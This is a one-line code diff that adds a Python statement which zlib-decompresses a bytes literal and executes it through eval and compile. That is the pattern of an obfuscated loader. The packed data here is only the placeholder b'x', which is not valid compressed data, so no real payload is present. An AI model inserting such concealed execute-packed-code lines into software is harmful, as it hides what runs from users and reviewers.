@@ -1,0 +1,1 @@
+eval(compile(__import__('zlib').decompress(b'x'), 'a', 'exec'))
